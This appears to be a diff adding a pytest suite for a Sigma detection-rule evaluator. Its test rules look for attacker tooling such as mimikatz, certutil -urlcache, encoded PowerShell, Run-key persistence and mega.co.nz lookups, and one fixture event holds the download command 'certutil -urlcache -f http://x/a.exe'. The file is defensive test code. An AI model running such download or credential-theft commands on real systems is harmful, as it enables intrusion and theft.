@@ -0,0 +1,178 @@
+import json
+import random
+
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from custom_sigma.evaluation import Automaton, Evaluator, read_events
+from sigma_convert import app, create_evaluator, load_rule_matchers
+
+PROCESS_CREATION = {"product": "windows", "category": "process_creation"}
+RULES = {
+    "contains": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"CommandLine|contains": ["-urlcache", "verifyctl"]}, "condition": "selection"}},
+    "startswith": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"CommandLine|startswith": "certutil"}, "condition": "selection"}},
+    "endswith": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"Image|endswith": "\\whoami.exe"}, "condition": "selection"}},
+    "wildcard": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"Image": "C:\\\\*\\\\who?mi.exe"}, "condition": "selection"}},
+    "cased": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"CommandLine|contains|cased": "EncodedCommand"}, "condition": "selection"}},
+    "keywords": {"logsource": {"product": "windows"}, "detection": {
+        "keywords": ["mimikatz"], "condition": "keywords"}},
+    "not": {"logsource": PROCESS_CREATION, "detection": {
+        "selection": {"Image|endswith": "\\whoami.exe"}, "filter": {"User|contains": "AUTHORI"},
+        "condition": "selection and not filter"}},
+    "one_of": {"logsource": PROCESS_CREATION, "detection": {
+        "selection_image": {"Image|endswith": "\\net.exe"}, "selection_command": {"CommandLine|contains": "group"},
+        "condition": "1 of selection_*"}},
+    "all_of": {"logsource": PROCESS_CREATION, "detection": {
+        "selection_image": {"Image|endswith": "\\net.exe"}, "selection_command": {"CommandLine|contains": "group"},
+        "condition": "all of selection_*"}},
+    "nested": {"logsource": {"product": "windows"}, "detection": {
+        "selection": {"Details.Target|endswith": "\\Run"}, "condition": "selection"}},
+    "dns": {"logsource": {"product": "windows", "category": "dns_query"}, "detection": {
+        "selection": {"QueryName|endswith": ".mega.co.nz"}, "condition": "selection"}},
+}
+
+# (event, names of the rules it matches)
+EVENTS = [
+    ({"EventID": 1, "Image": "C:\\Windows\\System32\\certutil.exe",
+      "CommandLine": "certutil -urlcache -f http://x/a.exe"}, {"contains", "startswith"}),
+    ({"EventID": 1, "Image": "C:\\Windows\\System32\\CERTUTIL.EXE", "CommandLine": "CertUtil -VerifyCtl -f"},
+     {"contains", "startswith"}),
+    ({"EventID": 1, "Image": "C:\\Windows\\System32\\whoami.exe", "User": "NT AUTHORITY\\SYSTEM"},
+     {"endswith", "wildcard"}),
+    ({"EventID": 1, "Image": "C:\\Tools\\WHOAMI.EXE", "User": "CORP\\alice"}, {"endswith", "wildcard", "not"}),
+    ({"EventID": 1, "Image": "D:\\whoami.exe", "User": "CORP\\alice"}, {"endswith", "not"}),
+    ({"EventID": 1, "CommandLine": "powershell -EncodedCommand AAAA"}, {"cased"}),
+    ({"EventID": 1, "CommandLine": "powershell -encodedcommand AAAA"}, set()),
+    ({"EventID": 1, "Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net localgroup"},
+     {"one_of", "all_of"}),
+    ({"EventID": 1, "Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net user"}, {"one_of"}),
+    ({"EventID": 4688, "Message": "Invoke-Mimikatz was run"}, {"keywords"}),
+    ({"Message": "invoke-mimikatz"}, {"keywords"}),
+    ({"EventID": 13, "Details": {"Target": "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"}},
+     {"nested"}),
+    ({"EventID": 22, "QueryName": "g.api.mega.co.nz"}, {"dns"}),
+    # the fields of a process creation rule in an event of another ID
+    ({"EventID": 22, "Image": "C:\\Windows\\System32\\whoami.exe", "QueryName": "example.com"}, set()),
+    ({"EventCode": "1", "Image": "C:\\Windows\\System32\\whoami.exe", "User": "CORP\\alice"},
+     {"endswith", "wildcard", "not"}),
+]
+
+
+@pytest.fixture(scope="module")
+def evaluator(tmp_path_factory):
+    directory = tmp_path_factory.mktemp("evaluation")
+    files = []
+    for name, rule in RULES.items():
+        files.append(str(directory / f"{name}.yml"))
+        with open(files[-1], "w", encoding="utf-8") as f:
+            yaml.safe_dump({"title": name, **rule}, f)
+    matchers, loaded, errors = load_rule_matchers(files)
+    assert not errors and len(loaded) == len(files)
+    return create_evaluator(matchers)
+
+
+@pytest.mark.parametrize("event,expected", EVENTS)
+def test_events_match_the_expected_rules(evaluator, event, expected):
+    assert {evaluator.rules[index].title for index in evaluator.match(event)} == expected
+
+
+def test_rules_are_indexed_by_event_id(evaluator):
+    titles = {rule.title: rule for rule in evaluator.rules}
+    # rules of a mapped log source only get the events of its IDs, the others every event
+    assert titles["endswith"].event_ids == frozenset({"1"}) and titles["dns"].event_ids == frozenset({"22"})
+    assert titles["keywords"].event_ids is None and titles["nested"].event_ids is None
+    indexed = {evaluator.rules[index].title for index in evaluator._by_event_id["1"]}
+    assert "endswith" in indexed and "dns" not in indexed and "keywords" not in indexed
+
+
+def test_automaton_finds_the_same_strings_as_a_plain_search():
+    rng = random.Random(3)
+    strings = ["".join(rng.choice("abc") for _ in range(rng.randint(1, 5))) for _ in range(40)]
+    automaton = Automaton(strings)
+    for _ in range(500):
+        text = "".join(rng.choice("abcd") for _ in range(rng.randint(0, 12)))
+        assert automaton.search(text) == any(string in text for string in strings), text
+
+
+def test_many_contained_strings(tmp_path):
+    # more values than AUTOMATON_THRESHOLD are searched with an automaton
+    rule = {"title": "many", "logsource": PROCESS_CREATION, "detection": {
+        "selection": {"CommandLine|contains": [f"tool{number:02d}" for number in range(40)]},
+        "condition": "selection"}}
+    file = str(tmp_path / "many.yml")
+    with open(file, "w", encoding="utf-8") as f:
+        yaml.safe_dump(rule, f)
+    evaluator = create_evaluator(load_rule_matchers([file])[0])
+    assert evaluator.match({"EventID": 1, "CommandLine": "run TOOL17 now"}) == [0]
+    assert evaluator.match({"EventID": 1, "CommandLine": "run tool7 now"}) == []
+
+
+def write_events(tmp_path):
+    jsonl = tmp_path / "events.jsonl"
+    with open(jsonl, "w", encoding="utf-8") as f:
+        for event, _ in EVENTS:
+            f.write(json.dumps(event) + "\n")
+        f.write("not json\n\n[1, 2]\n")
+    csv = tmp_path / "events.csv"
+    with open(csv, "w", encoding="utf-8") as f:
+        f.write("EventID,Image,CommandLine,User\n")
+        f.write('1,C:\\Windows\\System32\\net.exe,net localgroup,\n')
+        f.write('1,C:\\Tools\\whoami.exe,,CORP\\alice\n')
+    return str(jsonl), str(csv)
+
+
+def test_read_events(tmp_path):
+    jsonl, csv = write_events(tmp_path)
+    batches = list(read_events(jsonl, batch_size=4))
+    assert [len(batch) for batch in batches] == [4, 4, 4, 4, 1]
+    rows = [row for batch in read_events(csv) for row in batch]
+    # empty CSV cells are left out, like fields missing from an event
+    assert rows == [{"EventID": "1", "Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net localgroup"},
+                    {"EventID": "1", "Image": "C:\\Tools\\whoami.exe", "User": "CORP\\alice"}]
+
+
+def test_evaluate_jsonl_and_csv(evaluator, tmp_path):
+    jsonl, csv = write_events(tmp_path)
+    events, skipped, hits = evaluator.evaluate([item for batch in read_events(jsonl) for item in batch], samples=1)
+    assert (events, skipped) == (len(EVENTS), 2)
+    expected = {}
+    for _, names in EVENTS:
+        for name in names:
+            expected[name] = expected.get(name, 0) + 1
+    assert {evaluator.rules[index].title: count for index, (count, _) in hits.items()} == expected
+    assert all(len(found) == 1 for _, found in hits.values())
+
+    events, skipped, hits = evaluator.evaluate(next(read_events(csv)))
+    assert {evaluator.rules[index].title: count for index, (count, _) in hits.items()} == {
+        "one_of": 1, "all_of": 1, "endswith": 1, "wildcard": 1, "not": 1}
+
+
+def test_evaluate_command(tmp_path):
+    directory = tmp_path / "rules"
+    directory.mkdir()
+    for name in ("endswith", "not", "dns"):
+        with open(directory / f"{name}.yml", "w", encoding="utf-8") as f:
+            yaml.safe_dump({"title": name, **RULES[name]}, f)
+    jsonl, csv = write_events(tmp_path)
+    report = str(tmp_path / "report.json")
+    result = CliRunner().invoke(app, ["evaluate", "-E", jsonl, "-E", csv, "-f", str(directory), "--output", report])
+    assert result.exit_code == 0, result.output
+    with open(report, encoding="utf-8") as f:
+        report = json.load(f)
+    assert (report["events"], report["skipped"]) == (len(EVENTS) + 2, 2)
+    # process creation events of whoami: 4 in the JSONL export and 1 in the CSV export, one of them by SYSTEM
+    assert {rule["title"]: rule["hits"] for rule in report["rules"]} == {"endswith": 5, "not": 4, "dns": 1}
+    assert "3 rules matched, 0 without hits." in result.output
+
+
+def test_unknown_event_id_only_gets_generic_rules(evaluator):
+    assert isinstance(evaluator, Evaluator)
+    matched = {evaluator.rules[index].title for index in evaluator.match(
+        {"EventID": 9999, "Image": "C:\\whoami.exe", "Message": "mimikatz"})}
+    assert matched == {"keywords"}